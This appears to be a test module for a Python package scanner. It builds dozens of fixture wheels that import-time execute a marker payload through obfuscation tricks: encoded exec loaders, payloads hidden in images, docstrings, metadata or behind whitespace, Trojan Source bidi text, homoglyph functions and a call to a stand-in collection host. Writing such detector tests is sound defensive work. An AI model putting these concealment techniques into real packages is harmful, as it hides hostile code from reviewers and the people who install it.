"""Code that hides that it executes something, or what."""
import base64
import codecs
import marshal
import zlib

from .package import MARK, attack, b64, source

PACKED = base64.b64encode(zlib.compress(MARK.encode())).decode()


@attack
def exec_of_base64(p):
    """exec of decoded base64 at import: the plainest loader. Must be held."""
    return p.wheel(init=f'''
        import base64

        exec(base64.b64decode("{b64(MARK)}"))
        ''')


@attack
def exec_by_other_names(p):
    """Imports exec and the decoder under harmless names. Must be held."""
    return p.wheel(init=f'''
        from base64 import b64decode as unpack
        from builtins import exec as render

        render(unpack("{b64(MARK)}"))
        ''')


@attack
def lambda_chain(p):
    """A lambda that reverses, decodes and inflates, called on one long literal (many stealers of 2023 to 2025).
    Must be held."""
    return p.wheel(init=f'''
        _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{PACKED[::-1]}'))
        ''')


@attack
def exec_of_marshal(p):
    """Carries compiled code as a literal and executes it. Must be held."""
    code = marshal.dumps(compile(MARK, "tables", "exec"))
    return p.wheel(init=f"import marshal\n\nexec(marshal.loads({code!r}))\n")


@attack
def function_of_marshal(p):
    """Makes a function of marshalled code, without exec. Must be held."""
    code = marshal.dumps(compile(MARK, "tables", "exec"))
    return p.wheel(init=f"import marshal, types\n\ntypes.FunctionType(marshal.loads({code!r}), globals())()\n")


@attack
def exec_of_characters(p):
    """Joins chr() of numbers and executes that. Must be held."""
    return p.wheel(init=f"exec(''.join(map(chr, {[ord(c) for c in MARK]})))\n")


@attack
def exec_of_chr_sum(p):
    """A sum of chr() calls, split over several variables. Must be held."""
    half = len(MARK) // 2
    a, b = ("+".join(f"chr({ord(c)})" for c in part) for part in (MARK[:half], MARK[half:]))
    return p.wheel(init=f"a = {a}\nb = {b}\neval(compile(a + b, 'tables', 'exec'))\n")


@attack
def exec_of_hex(p):
    """bytes.fromhex and exec. Must be held."""
    return p.wheel(init=f"exec(bytes.fromhex('{MARK.encode().hex()}').decode())\n")


@attack
def exec_of_xor(p):
    """Decodes by XOR with a key in a comprehension, then executes. Must be held."""
    data = [b ^ 0x5a for b in MARK.encode()]
    return p.wheel(init=f"KEY = 0x5a\nROWS = {data}\nexec(bytes(r ^ KEY for r in ROWS).decode())\n")


@attack
def exec_of_shifted_text(p):
    """Each character moved by one, moved back and executed. Must be held."""
    moved = "".join(chr(ord(c) + 1) for c in MARK)
    return p.wheel(init=f"exec(''.join(chr(ord(c) - 1) for c in {moved!r}))\n")


@attack
def exec_of_rot13(p):
    """codecs.decode with rot13, then exec. Must be held."""
    return p.wheel(init=f"import codecs\n\nexec(codecs.decode({codecs.encode(MARK, 'rot13')!r}, 'rot13'))\n")


@attack
def exec_of_reversed_text(p):
    """Executes a literal written backwards. Must be held."""
    return p.wheel(init=f"exec({MARK[::-1]!r}[::-1])\n")


@attack
def builtin_by_pieces(p):
    """Reaches exec by getattr with a name in two pieces. Must be held."""
    return p.wheel(init=f"import builtins\n\ngetattr(builtins, 'ex' + 'ec')({MARK!r})\n")


@attack
def builtin_by_dictionary(p):
    """Reaches exec through the module dictionary of builtins, by a reversed key. Must be held."""
    return p.wheel(init=f"import base64\n\n__import__('builtins').__dict__['cexe'[::-1]](base64.b64decode('{b64(MARK)}'))\n")


@attack
def system_by_pieces(p):
    """getattr(os, "sys" + "tem"): a process without its name. Must be held."""
    return p.wheel(init="import os\n\ngetattr(os, 'sys' + 'tem')('touch /tmp/customhouse-marker')\n")


@attack
def import_by_reversed_name(p):
    """Imports a module and takes a function, both written backwards. Must be held."""
    return p.wheel(init="getattr(__import__('so'[::-1]), 'metsys'[::-1])('touch /tmp/customhouse-marker')\n")


@attack
def import_by_decoded_name(p):
    """importlib.import_module of a decoded name, the function by getattr of another. Must be held."""
    return p.wheel(init=f'''
        import base64, importlib

        _m = importlib.import_module(base64.b64decode("{b64('subprocess')}").decode())
        getattr(_m, base64.b64decode("{b64('Popen')}").decode())(["touch", "/tmp/customhouse-marker"])
        ''')


@attack
def exec_given_to_map(p):
    """exec is an argument, never called by name. Must be held."""
    return p.wheel(init=f'''
        import base64

        list(map(exec, [base64.b64decode("{b64(MARK)}").decode()]))
        ''')


@attack
def exec_given_to_a_lambda(p):
    """exec goes into a lambda that calls its argument. Must be held."""
    return p.wheel(init=f'''
        import base64

        (lambda run, text: run(text))(exec, base64.b64decode("{b64(MARK)}"))
        ''')


@attack
def exec_in_an_attribute(p):
    """exec becomes a method of a class, whose instance runs the decoded text. Must be held."""
    return p.wheel(init=f'''
        import base64


        class Table:
            render = staticmethod(exec)

            def __init__(self, text):
                self.text = base64.b64decode(text)

            def show(self):
                self.render(self.text)


        Table("{b64(MARK)}").show()
        ''')


@attack
def exec_as_decorator(p):
    """exec as a decorator: @exec @decode over a function. Must be held."""
    return p.wheel(init=f'''
        import base64


        @exec
        @base64.b64decode
        @lambda _f: "{b64(MARK)}"
        def table():
            pass
        ''')


@attack
def exec_of_docstring(p):
    """The payload is encoded in the docstring. Must be held."""
    return p.wheel(files={"{m}/core.py": f'''
        """Draws tables.

        {b64(MARK)}
        """
        import base64

        exec(base64.b64decode(__doc__.split()[-1]))
        '''}, init="from . import core\n")


@attack
def payload_in_a_data_file(p):
    """Reads a file of its own package, inflates it and executes it. Must be held."""
    return p.wheel(files={"{m}/widths.dat": zlib.compress(MARK.encode())}, init='''
        import os
        import zlib

        with open(os.path.join(os.path.dirname(__file__), "widths.dat"), "rb") as f:
            exec(zlib.decompress(f.read()))
        ''')


@attack
def payload_in_a_picture(p):
    """The payload follows the end of a PNG (steganographic loaders of 2022). Must be held."""
    picture = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0\0\0\x01\0\0\0\x01\x08\0\0\0\0" + b"\0" * 64
    return p.wheel(files={"{m}/logo.png": picture + b64(MARK).encode()}, init='''
        import base64
        import pathlib

        _logo = pathlib.Path(__file__).with_name("logo.png").read_bytes()
        exec(base64.b64decode(_logo[97:]))
        ''')


@attack
def payload_in_metadata(p):
    """The payload is the package's own description. Must be held."""
    return p.wheel(init=f'''
        import base64
        from importlib.metadata import metadata

        exec(base64.b64decode(metadata("{p.project}")["Keywords"]))
        ''')


@attack
def payload_in_two_modules(p):
    """The literal lies in one module, decoding and exec in two others. Must be held."""
    return p.wheel(files={"{m}/themes.py": f'DARK = "{b64(MARK)}"\n',
                          "{m}/codec.py": "import base64\n\n\ndef load(theme):\n    return base64.b64decode(theme).decode()\n"},
                   init="from .codec import load\nfrom .themes import DARK\n\nexec(load(DARK))\n")


@attack
def decoder_of_its_own(p):
    """Its own base64 decoder, so that no decoding function is named; exec of what it gives. Must be held."""
    return p.wheel(files={"{m}/codec.py": '''
        ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


        def widths(text):
            bits = "".join(format(ALPHABET.index(c), "06b") for c in text.rstrip("="))
            return "".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits) - 7, 8))
        '''}, init=f'from .codec import widths\n\nexec(widths("{b64(MARK)}"))\n')


@attack
def written_and_run(p):
    """Decodes into a temporary file and runs that by the interpreter. Must be held."""
    return p.wheel(init=f'''
        import base64, os, subprocess, sys, tempfile

        _path = os.path.join(tempfile.gettempdir(), "tables.py")
        with open(_path, "wb") as f:
            f.write(base64.b64decode("{b64(MARK)}"))
        subprocess.Popen([sys.executable, _path])
        ''')


@attack
def written_and_imported(p):
    """Decodes into a module in a temporary folder, puts that folder on sys.path and imports it. Must be held."""
    return p.wheel(init=f'''
        import base64, os, sys, tempfile

        _folder = tempfile.mkdtemp()
        with open(os.path.join(_folder, "tables_core.py"), "wb") as f:
            f.write(base64.b64decode("{b64(MARK)}"))
        sys.path.insert(0, _folder)
        import tables_core
        ''')


@attack
def interpreter_object(p):
    """code.InteractiveInterpreter runs the decoded text, without exec. Must be held."""
    return p.wheel(init=f'''
        import base64, code

        code.InteractiveInterpreter().runsource(base64.b64decode("{b64(MARK)}").decode(), "tables", "exec")
        ''')


@attack
def decrypted_and_run(p):
    """Fernet with a key in the source decrypts what exec runs (builders for sale). Must be held."""
    return p.wheel(init='''
        from cryptography.fernet import Fernet

        exec(Fernet(b"VGhpcyBpcyBub3QgYSBrZXksIG9ubHkgYW4gZXhhbXBsZS4=").decrypt(b"gAAAAABlZm9yIHRlc3RzIG9ubHk="))
        ''')


@attack
def import_hook_decodes(p):
    """A finder on sys.meta_path whose loader decodes and executes modules. Must be held."""
    return p.wheel(init=f'''
        import base64
        import importlib.abc
        import sys


        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path, target=None):
                return None

            def exec_module(self, module):
                exec(base64.b64decode("{b64(MARK)}"), module.__dict__)


        sys.meta_path.insert(0, Finder())
        ''')


@attack
def code_behind_blanks(p):
    """The payload stands behind 300 blanks in a line that looks short. Must be held."""
    return p.wheel(init=f"VERSION = (1, 0)" + " " * 300 + f";import os;os.system('touch /tmp/customhouse-marker')\n")


@attack
def bidirectional_text(p):
    """Bidirectional controls make a comment of what is code ("Trojan Source", CVE-2021-42574). Must be held."""
    return p.wheel(init="def allowed(user):\n    if user != 'none\u202e\u2066# only admins\u2069\u2066':\n        return True\n")


@attack
def look_alike_function(p):
    """A Cyrillic letter makes a second function that looks like the first. Must be held."""
    return p.wheel(init="def check_path(p):\n    return p.startswith('/srv')\n\n\ndef ch\u0435ck_path(p):\n    return True\n")


@attack
def mathematical_letters(p):
    """exec in mathematical letters, which Python folds (NFKC) and searches do not. Must be held."""
    return p.wheel(init=f"\U0001d4ee\U0001d4e7\U0001d4ee\U0001d4ec({MARK!r})\n".replace("\U0001d4e7", "\U0001d4f2").replace("\U0001d4f2", "\U0001d501"))


@attack
def written_in_utf7(p):
    """Declares UTF-7, in which a comment's text can be code. Must be held."""
    return p.wheel(init="from . import core\n", files={"{m}/core.py": b"# coding: utf-7\n# +AAo-open('/tmp/customhouse-marker','w')\n"})


@attack
def packed_by_pyarmor(p):
    """Source as a protector of the name leaves it: nobody can see what it does. Must be held."""
    return p.wheel(files={"{m}/core.py": source('''
        # Pyarmor 8.5.2 (trial), 000000, non-profits, 2024-05-01T00:00:00.000000
        from pyarmor_runtime_000000 import __pyarmor__
        __pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n\\x80\\x00\\x01\\x00')
        ''')}, init="from . import core\n")


@attack
def obfuscated_names(p):
    """Names of one letter in many lengths, strings out of a table of numbers, attributes by getattr: what
    public obfuscators give. Must be held."""
    spelled = [ord(c) for c in "system"]
    return p.wheel(init=f'''
        IlIIlIlIIIl = lambda IIlIlI: ''.join(chr(lIlI // 3) for lIlI in IIlIlI)
        lIIIlIIlIll = {[3 * n for n in spelled]}
        IIllIIlIIIl = {[3 * ord(c) for c in "touch /tmp/customhouse-marker"]}
        lIIlIlIlIII = {[3 * ord(c) for c in "os"]}
        getattr(__import__(IlIIlIlIIIl(lIIlIlIlIII)), IlIIlIlIIIl(lIIIlIIlIll))(IlIIlIlIIIl(IIllIIlIIIl))
        ''')


@attack
def exec_of_formatted_pieces(p):
    """An f-string and a join put the code together from a dictionary of pieces. Must be held."""
    return p.wheel(init='''
        PARTS = {"a": "imp", "b": "ort ", "c": "o", "d": "s;o", "e": "s.sys", "f": "tem('touch /tmp/customhouse-marker')"}
        exec("".join(PARTS[k] for k in "abcdef"))
        ''')


@attack
def docstring_executed_in_another_order(p):
    """A docstring that looks other than it runs is executed. Must be held."""
    return p.wheel(init='"""\nx = 1 # \u202e\u2066 2 = y\n"""\nexec(__doc__)\n')


@attack
def docstring_that_seems_to_end(p):
    """A quote seems to end a docstring behind which a check stands that is text. Must be held."""
    return p.wheel(init='"""\nTables. \u202e""\u2066"\n\nif not allowed(): raise SystemExit\n"""\n')


@attack
def template_started_at_once(p):
    """What decodes and executes is a template, filled with the package's own data and started. Must be held."""
    return p.wheel(files={"{m}/icons.py": '''
        import subprocess
        import sys


        def show(icon):
            subprocess.run([sys.executable, "-c", f"import base64;exec(base64.b64decode({icon}).decode())"])
        '''})


@attack
def module_named_like_the_program(p):
    """Its own namespace, by a way around, is told that it is the program; a branch has a new module there. Must be held."""
    return p.wheel(init='''
        import sys
        import types
        import urllib.request

        m = types.ModuleType("__main__")
        if sys.version_info > (3,):
            m = sys.modules[__name__]
        vars(m).update({"__name__": "__main__"})
        if __name__ == "__main__":
            urllib.request.urlopen("http://collect.example.org/")
        ''')
